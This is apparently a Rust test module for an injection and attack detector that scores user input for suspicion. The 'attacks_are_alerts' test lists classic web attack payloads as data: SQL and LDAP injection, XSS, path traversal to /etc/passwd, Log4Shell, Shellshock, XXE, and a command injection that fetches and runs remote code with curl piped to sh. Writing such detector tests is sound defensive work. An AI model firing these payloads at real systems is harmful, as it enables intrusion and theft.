use super::*;

fn check(values: &[&str], range: std::ops::Range<f32>) {
    for value in values {
        let found = suspicion(value);
        assert!(range.contains(&found.score), "{value}: {found:?}");
    }
}

#[test]
fn attacks_are_alerts() {
    check(
        &[
            "1' OR '1'='1",
            "1 union all select null,null--",
            "x'; DROP TABLE users; --",
            "<script>alert(1)</script>",
            "%3Cimg%20src=x%20onerror=alert(1)%3E",
            "../../../etc/passwd",
            "..%252f..%252fetc%252fpasswd",
            "${jndi:ldap://x/a}",
            "; cat /etc/passwd",
            "$(curl http://10.0.0.1/x|sh)",
            "a\r\nSet-Cookie: a=b",
            "() { :; }; /bin/id",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
            "php://filter/convert.base64-encode/resource=index",
            "*)(uid=*))(|(uid=*",
            "O:8:\"Settings\":1:{s:1:\"a\"}",
        ],
        0.9..1.0,
    );
}

#[test]
fn what_people_type_is_not_suspicious() {
    check(
        &[
            "",
            "O'Brien",
            "L'Hospitalet de Llobregat",
            "jam\u{f3}n+ib\u{e9}rico",
            "c/ mayor 5, 3 b",
            "select a room from the list",
            "Tom & Jerry",
            "rock and roll or jazz",
            "maria@example.org",
            "2026-01-31T10:00:00Z",
            "100%",
            "black or white = fine",
            "https://example.org/a/b.html",
            "550e8400-e29b-41d4-a716-446655440000",
            "p4$$w0rd!",
            "union square",
            "drop table",
            "select's best",
            "drop me a line; thanks",
        ],
        0.0..0.5,
    );
}

#[test]
fn evidence_is_decoded_cut_short_and_safe_to_print() {
    let found = suspicion("%2e%2e%2f%2e%2e%2fetc%2fpasswd");
    assert_eq!((found.kind, found.evidence.as_str()), (Some(Kind::SensitiveFile), "../../etc/passwd"));
    let found = suspicion("<script>\u{202e}\u{1b}[31m");
    assert!(found.evidence.chars().all(|character| !character.is_control() && character != '\u{202e}'), "{}", found.evidence);
    assert!(suspicion(&"<script>".repeat(100)).evidence.chars().count() <= EXCERPT_CHARS_MAX + 1);
}

#[test]
fn no_bytes_stop_the_inspector() {
    let mut inspector = Inspector::default();
    let mut random = crate::random::SplitMix64::new(7);
    let alphabet = b"'\"<>()/\\.;|&$`{}=-#*%+@!:aorselctxu01;hp \x00\n\xc0\xef\xbc";
    for _ in 0..20_000 {
        let bytes: Vec<u8> = (0..random.below(24)).map(|_| *random.pick(alphabet)).collect();
        for place in [Place::Path, Place::Value, Place::Prose] {
            let findings = inspector.inspect(&bytes, place);
            inspector.excerpt(&findings);
        }
    }
}

#[test]
fn scores_rise_with_the_evidence() {
    let scores: Vec<f32> = (0..100).map(|points| score_of_points(points as f32)).collect();
    assert!(scores.windows(2).all(|pair| pair[0] < pair[1]) && scores[99] < 1.0, "{scores:?}");
}
